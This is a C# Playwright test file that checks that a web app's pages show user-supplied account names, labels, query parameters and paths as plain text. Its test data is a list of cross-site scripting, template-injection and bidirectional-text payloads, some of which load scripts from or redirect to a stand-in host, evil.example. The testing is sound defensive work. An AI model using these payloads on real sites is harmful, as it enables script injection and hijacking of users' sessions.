using Gcd.Sandbox.Accounts;
using Gcd.Tests.Fixtures;
using Microsoft.Playwright;

namespace Gcd.Tests.Pages;

/// <summary>Whatever others put into a name or an address stands on the page as text, and nothing else.</summary>
[Collection(InTheBrowser.Name)]
public sealed class HostileTextTests(PagesUnderTest pages)
{
    // Elements and their attributes' names, in order: what a text becomes part of when it is taken for markup.
    private const string Structure = "() => [...document.querySelectorAll('*')].map(one => one.tagName + one.getAttributeNames().join()).join(' ')";

    // What the templates among the texts come to when something evaluates them: too long to be in the random name of the request, which the pages show.
    private const string Evaluated = "12345654321";

    // Elements whose own text turns the direction of what stands beside it.
    private const string Turning =
        """
        () => [...document.querySelectorAll('body *')]
          .filter(one => [...one.childNodes].some(node => node.nodeType === Node.TEXT_NODE && node.data.includes('\u202E')))
          .filter(one => !/isolate|plaintext/.test(getComputedStyle(one).unicodeBidi))
          .map(one => one.outerHTML)
        """;

    private static readonly string[] Texts =
    [
        "<img src=x onerror=alert(1)>",
        "\"><script>alert(1)</script>",
        "'><svg/onload=alert(1)>",
        "\" onfocus=alert(1) autofocus x=\"",
        "</title></textarea></pre></code><script>alert(1)</script>",
        "<script src=//evil.example/x.js></script>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<iframe srcdoc=\"<script>parent.alert(1)</script>\">",
        "<style>*{background:url(//evil.example)}</style>",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "{{111111*111111}} ${111111*111111} #{111111*111111} <%= 111111*111111 %> @(111111*111111)",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "<!-- ]]> -->",
        "\u202Emoc.elpmaxe@live\u2066\u200F",
        "`${alert(1)}`;alert(1)//",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    ];

    [SkippableFact]
    public async Task An_account_may_be_called_anything()
    {
        var world = await pages.WorldAsync();
        await using var visitor = await pages.VisitAsync(SitePages.Success);
        var plain = await visitor.Page.EvaluateAsync<string>(Structure);
        foreach (var text in Texts)
        {
            await visitor.FinishSignInAsync(world.Google.Accounts.Add($"{text}@example.com"));
            Assert.Contains($"{text}@example.com", await visitor.Heading.TextContentAsync(), StringComparison.Ordinal);
            await AssertTextAloneAsync(visitor, plain, text);
        }
    }

    [SkippableFact]
    public async Task A_label_and_the_account_that_has_it_may_be_called_anything_on_the_account_page()
    {
        var world = await pages.WorldAsync();
        await using var visitor = await pages.VisitAsync();
        string? plain = null;
        foreach (var text in Texts.Prepend("plain"))
        {
            var account = world.Google.Accounts.Add($"{text}@account.example");
            account.Groups.Add(AccountGroup.Own("x1", text));
            await world.MakeTokenAsync(await world.SignInAsync(account), """{"rights":{"labels":["contactGroups/x1"]}}""");
            await visitor.GoToAccountAsync(account);
            Assert.Contains($"{text}@account.example", await visitor.Heading.TextContentAsync(), StringComparison.Ordinal);
            plain ??= await visitor.Page.EvaluateAsync<string>(Structure);
            await AssertTextAloneAsync(visitor, plain, text);
        }
    }

    [SkippableFact]
    public async Task Letters_that_turn_the_writing_direction_turn_nothing_but_the_name_itself()
    {
        var world = await pages.WorldAsync();
        await using var visitor = await pages.VisitAsync();
        await visitor.FinishSignInAsync(world.Google.Accounts.Add("\u202Emoc.elpmaxe@live"));
        await Assertions.Expect(visitor.Page.Locator("#token")).ToBeAttachedAsync();

        Assert.Empty(await visitor.Page.EvaluateAsync<string[]>(Turning));
    }

    [SkippableFact]
    public async Task Nor_do_those_of_a_label_on_the_account_page()
    {
        var world = await pages.WorldAsync();
        await using var visitor = await pages.VisitAsync();
        var account = world.NewAccount();
        account.Groups.Add(AccountGroup.Own("x1", "\u202Esdneirf"));
        await world.MakeTokenAsync(await world.SignInAsync(account), """{"rights":{"labels":["contactGroups/x1"]}}""");
        await visitor.GoToAccountAsync(account);
        await Assertions.Expect(visitor.Page.Locator(".rows").First).ToContainTextAsync("\u202Esdneirf");
        Assert.Empty(await visitor.Page.EvaluateAsync<string[]>(Turning));
    }

    [SkippableTheory]
    [InlineData("/oauth2callback?error=@&error_description=@&error_uri=@&state=@", 400)]
    [InlineData("/oauth2callback?code=@&state=@&scope=@&authuser=@", 400)]
    [InlineData("/oauth2callback?code=x&state=x&iss=@", 400)]
    [InlineData("/auth?login_hint=@", 200)]
    [InlineData("/download?format=@", 401)]
    [InlineData("/@?@=@#@", 404)]
    public async Task Parameters_and_paths_may_say_anything(string address, int status)
    {
        await using var visitor = await pages.VisitAsync();
        await visitor.GoAsync(address.Replace("@", "plain", StringComparison.Ordinal), status);
        var plain = await visitor.Page.EvaluateAsync<string>(Structure);
        foreach (var text in Texts)
        {
            await visitor.GoAsync(address.Replace("@", Uri.EscapeDataString(text), StringComparison.Ordinal), status);
            await AssertTextAloneAsync(visitor, plain, text);
        }
    }

    private static async Task AssertTextAloneAsync(Visitor visitor, string plain, string text)
    {
        var structure = await visitor.Page.EvaluateAsync<string>(Structure);
        Assert.True(plain == structure, $"{text} became markup:\n{structure}\nand not\n{plain}");
        Assert.DoesNotContain(Evaluated, await visitor.Page.InnerTextAsync("body"), StringComparison.Ordinal);
        visitor.AssertClean();
    }
}
